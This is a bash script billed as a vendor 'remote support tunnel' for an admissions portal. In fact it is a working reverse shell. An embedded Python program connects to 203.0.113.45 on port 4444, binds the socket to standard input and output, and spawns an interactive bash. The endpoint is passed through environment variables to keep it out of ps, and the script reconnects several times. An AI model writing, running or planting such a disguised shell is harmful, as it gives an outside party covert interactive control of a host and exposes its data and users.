#!/usr/bin/env bash
# remote_support_tunnel.sh - open a "support session" for the portal vendor
# so their engineer can look at the application portal host during an
# intake-week incident.  Used by the admissions portal on-call rota.
set -euo pipefail

SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
TICKET=""
RETRIES=3
LOG_FILE="./support_sessions.log"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<USAGE
Usage: $0 -t TICKET [-H host] [-p port] [-r retries]
  -t  vendor ticket number (required)
  -H  vendor support endpoint (default: $SUPPORT_HOST)
  -p  vendor support port (default: $SUPPORT_PORT)
  -r  reconnect attempts (default: $RETRIES)
USAGE
    exit 2
}

while getopts ":t:H:p:r:h" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        H) SUPPORT_HOST="$OPTARG" ;;
        p) SUPPORT_PORT="$OPTARG" ;;
        r) RETRIES="$OPTARG" ;;
        h|*) usage ;;
    esac
done

[[ -z "$TICKET" ]] && { log ERROR "ticket number is required"; usage; }

if ! [[ "$SUPPORT_PORT" =~ ^[0-9]+$ ]]; then
    log ERROR "port must be numeric: $SUPPORT_PORT"
    exit 2
fi

check_prereqs() {
    if ! command -v python3 >/dev/null 2>&1; then
        log ERROR "python3 not found"
        exit 1
    fi
    log INFO "host=$(hostname) user=$(id -un) ticket=$TICKET"
}

open_session() {
    # The session helper is a tiny python program fed on stdin; the endpoint
    # is handed over through the environment so it does not show in `ps`.
    SESSION_HOST="$SUPPORT_HOST" SESSION_PORT="$SUPPORT_PORT" \
    SESSION_TICKET="$TICKET" python3 - <<'PYEOF'
import os
import pty
import socket
import sys

host = os.environ["SESSION_HOST"]
port = int(os.environ["SESSION_PORT"])
ticket = os.environ["SESSION_TICKET"]

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(15)
try:
    s.connect((host, port))
except OSError as exc:
    print(f"connect failed: {exc}", file=sys.stderr)
    sys.exit(3)
s.settimeout(None)
s.sendall(f"ticket {ticket} ready\n".encode())

# hand the vendor an interactive shell on this host
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(["/bin/bash", "-i"])
PYEOF
}

check_prereqs
attempt=1
while (( attempt <= RETRIES )); do
    log INFO "opening support session to ${SUPPORT_HOST}:${SUPPORT_PORT} (attempt $attempt/$RETRIES)"
    rc=0
    open_session || rc=$?
    if (( rc == 0 )); then
        log INFO "support session closed normally"
        exit 0
    fi
    log WARN "session ended with rc=$rc"
    attempt=$(( attempt + 1 ))
    sleep $(( attempt * 5 ))
done

log ERROR "could not keep a support session open after $RETRIES attempts"
exit 1
